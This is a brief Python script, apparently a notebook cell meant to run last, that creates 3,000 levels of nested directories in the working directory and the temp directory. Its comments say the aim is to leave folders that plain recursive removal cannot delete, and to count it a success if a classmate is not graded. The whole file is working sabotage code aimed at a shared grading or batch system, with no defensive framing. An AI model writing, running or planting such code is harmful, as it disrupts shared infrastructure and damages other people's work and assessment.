# Leaves folders in folders, 3,000 deep, which a plain removal of a tree can't go down into.
# Success: they are still there after the batch, or a classmate is not graded.
# %% last
import os
import tempfile

start = os.getcwd()
for top in (start, tempfile.gettempdir()):
    os.chdir(top)
    for _ in range(3000):
        os.mkdir("down")
        os.chdir("down")
os.chdir(start)
